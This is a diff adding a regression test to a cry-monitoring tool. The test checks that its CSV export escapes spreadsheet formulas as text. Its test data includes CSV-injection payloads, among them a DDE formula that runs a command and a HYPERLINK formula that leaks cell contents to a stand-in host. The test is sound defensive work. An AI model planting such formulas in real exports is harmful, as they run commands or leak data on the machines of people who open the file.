@@ -6,16 +6,17 @@ import re
 import subprocess
 import sys
 from dataclasses import replace
-from datetime import timedelta
+from datetime import datetime, timedelta, timezone
 
 import numpy as np
 import soundfile
 
 from monitor.bus import Envelope
 from monitor.classify import Head
+from monitor.config import settings_from_dict
 from monitor.messages import EpisodeClosed, EpisodeOpened, EpisodeSummary
 from monitor.store import StoreWriter, open_engine
-from tests.conftest import PROJECT_ROOT, cry_path, pick, run_crywatch
+from tests.conftest import PROJECT_ROOT, cry_path, crywatch_command, pick, run_crywatch
 from tests.test_store import T0, _at
 
 
@@ -172,3 +173,40 @@ def test_an_hour_of_48_khz_stereo_is_analysed_in_bounded_memory(tmp_path):
     peak_mb = int(re.search(r"VmHWM:\s+(\d+) kB", done.stderr).group(1)) / 1024
     print(f"\n1 h of 48 kHz stereo: peak RSS {peak_mb:.0f} MB")
     assert result["duration_s"] == 3600.0 and peak_mb < 400
+
+
+FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://example.invalid/?leak="&A1,"click")', "+1+1", "-2+3",
+            "@SUM(1,1)", "\t=1+1", "\r=1+1"]
+
+
+def test_the_csv_export_shows_formulas_as_text_and_no_spreadsheet_runs_them(tmp_path):
+    """The fault: `crywatch episodes --format csv` wrote a staff note `=cmd|' /C calc'!A0` or `=HYPERLINK(...)`,
+    and bed names, verbatim: a spreadsheet opening the export runs them."""
+    from monitor.bus import Envelope
+    from monitor.messages import EpisodeClosed, EpisodeSummary
+    from monitor.store import StoreWriter, annotate, list_episodes, open_engine
+
+    db = f"sqlite:///{tmp_path / 'log.db'}"
+    bed = "=HYPERLINK(\"http://example.invalid\",\"bed-3\")"
+    settings_from_dict({"service": {"bed": bed}})  # the config accepts it
+    t0 = datetime(2026, 11, 27, 8, 0, tzinfo=timezone.utc)
+    writer = StoreWriter(open_engine(db), "run-1", bed, "mic", "acoustic-v2", "acoustic-v2",
+                         lambda s: t0 + timedelta(seconds=s))
+    writer.write([Envelope(bed, (t0 + timedelta(seconds=20 * n + 5)).isoformat(), EpisodeClosed(
+        (20 * n + 5) * 16_000, EpisodeSummary(n + 1, 20.0 * n, 20.0 * n + 5, 20.0 * n + 5, 20.0 * n + 0.5, "pain",
+                                              {"not_cry": 0.2, "pain": 0.7}, {"not_cry": 0.3, "pain": 0.9}, 4)))
+                  for n in range(len(FORMULAS))])
+    engine = open_engine(db)
+    for episode, note in zip(list_episodes(engine), FORMULAS):
+        annotate(engine, episode["id"], "pain", "AB", note)  # as `crywatch annotate --note` stores it
+    # As bytes: text mode would turn the note's carriage return into a newline before csv reads it.
+    exported = subprocess.run(crywatch_command("episodes", "--db", db, "--format", "csv"), cwd=PROJECT_ROOT,
+                              capture_output=True, timeout=120)
+    assert exported.returncode == 0, exported.stderr
+    rows = list(csv.DictReader(io.StringIO(exported.stdout.decode(), newline="")))
+    assert [row["review_note"] for row in rows] == ["'" + note for note in FORMULAS]
+    assert {row["bed"] for row in rows} == {"'" + bed}
+    cells = [cell for row in rows for cell in row.values()]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert [row["p"] for row in rows] == ["0.7"] * len(FORMULAS)  # numbers stay numbers
+    assert [e["review"]["note"] for e in list_episodes(engine)] == FORMULAS  # the log and the JSON keep the text
